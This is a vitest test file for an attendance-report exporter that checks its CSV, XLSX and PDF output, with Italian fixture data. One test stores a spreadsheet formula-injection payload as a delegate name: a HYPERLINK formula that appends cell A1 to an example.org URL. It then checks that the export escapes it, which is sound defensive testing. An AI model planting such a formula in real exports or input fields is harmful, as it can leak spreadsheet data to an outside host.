import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../../tests/support/database';
import { attendanceReport } from '../attendance';
import { attendanceDocument } from '../attendance-document';
import { createAttendanceFixture } from '../fixture';
import { renderFile } from './send';
import { readCsv, readPdfText, readXlsx } from './read-back';
import type { ReportDocument } from './table';

describe('report files (CSV, XLSX, PDF) read back by independent parsers', () => {
  let db: TestDatabase;
  let doc: ReportDocument;

  beforeAll(async () => {
    db = await createTestDatabase();
    const f = await createAttendanceFixture(db.prisma);
    const report = await attendanceReport(
      db.prisma,
      { bodyId: f.bodyId, from: '2027-01-01', to: '2027-12-31' },
      { kind: 'all' },
    );
    doc = attendanceDocument(report, new Date('2028-01-15T10:30:00Z'));
  });
  afterAll(() => db.cleanup());

  it('CSV: UTF-8 with BOM, ; separated, decimal comma, accents intact', async () => {
    const file = await renderFile(doc, 'csv');
    expect([...file.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.toString('utf8')).toContain(';');
    const rows = readCsv(file);
    expect(rows[0]).toEqual([
      'Organizzazione',
      'Sedute attese',
      'Presente',
      'Tramite delegato',
      'Assente giustificato',
      'Assente',
      'Tasso di presenza',
    ]);
    expect(rows).toContainEqual(['Comunità Sociale Cremasca (r)', '4', '2', '0', '0', '2', '50%']);
    expect(rows).toContainEqual(['ATS Val Padana (r)', '8', '5', '1', '1', '1', '75%']);
    const meetings = readCsv(await renderFile(doc, 'csv', 2));
    expect(meetings).toContainEqual([
      '15/09/2027',
      'sì',
      "Presidente dell'Assemblea dei Sindaci",
      'Ada Bonì',
      'Comune di Crema (r)',
      'Rappresentato da delegato',
      'Assessora Gioia Lucà',
      '',
      'sì',
    ]);
  });

  it('XLSX: one sheet per table, rates as numbers formatted as percentages', async () => {
    const sheets = await readXlsx(await renderFile(doc, 'xlsx'));
    expect(Object.keys(sheets)).toEqual(['Per organizzazione', 'Per persona', 'Per seduta']);
    const organisations = sheets['Per organizzazione']!;
    expect(organisations[0]).toEqual(['Report delle presenze']);
    expect(organisations).toContainEqual(['Comunità Sociale Cremasca (r)', 4, 2, 0, 0, 2, 0.5]);
    expect(sheets['Per persona']).toContainEqual([
      'Dario Sciò',
      'Comunità Sociale Cremasca (r)',
      2,
      1,
      0,
      0,
      1,
      0.5,
    ]);
  });

  it('PDF: title, body, period, generation date and the figures, accents intact', async () => {
    const file = await renderFile(doc, 'pdf');
    expect(file.subarray(0, 5).toString()).toBe('%PDF-');
    const text = (await readPdfText(file)).replace(/\s+/g, ' ');
    expect(text).toContain('Report delle presenze');
    expect(text).toContain('Organo: Cabina di Regia Integrata');
    expect(text).toContain('Periodo: dal 01/01/2027 al 31/12/2027');
    expect(text).toContain('Generato il 15/01/2028 11:30');
    expect(text).toContain('Comunità Sociale Cremasca (r)');
    expect(text).toContain('Assessora Gioia Lucà');
    expect(text).toContain('Fabio Gioià');
  });

  it('a delegate name typed as a formula stays text: an apostrophe before it in the CSV, a string cell in the XLSX', async () => {
    // What a mayor could type as their delegate on the answer page; the roll call then records it.
    const typed = '=HYPERLINK("https://example.org/?"&A1;"Apri")';
    await db.prisma.attendance.updateMany({
      where: { delegateName: 'Assessora Gioia Lucà' },
      data: { delegateName: typed },
    });
    const report = await attendanceReport(
      db.prisma,
      { bodyId: (await db.prisma.meeting.findFirstOrThrow()).bodyId, from: '2027-01-01', to: '2027-12-31' },
      { kind: 'all' },
    );
    const withFormula = attendanceDocument(report, new Date('2028-01-15T10:30:00Z'));
    try {
      const row = readCsv(await renderFile(withFormula, 'csv', 2)).find(
        (r) => r[3] === 'Ada Bonì' && r[0] === '15/09/2027',
      );
      expect(row?.[6]).toBe(`'${typed}`);

      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load((await renderFile(withFormula, 'xlsx')) as unknown as ArrayBuffer);
      const cells: ExcelJS.Cell[] = [];
      workbook.getWorksheet('Per seduta')!.eachRow((r) => r.eachCell((c) => void cells.push(c)));
      const cell = cells.find((c) => String(c.value).includes('HYPERLINK'));
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
      expect(cell?.value).toBe(typed);
    } finally {
      await db.prisma.attendance.updateMany({
        where: { delegateName: typed },
        data: { delegateName: 'Assessora Gioia Lucà' },
      });
    }
  });
});
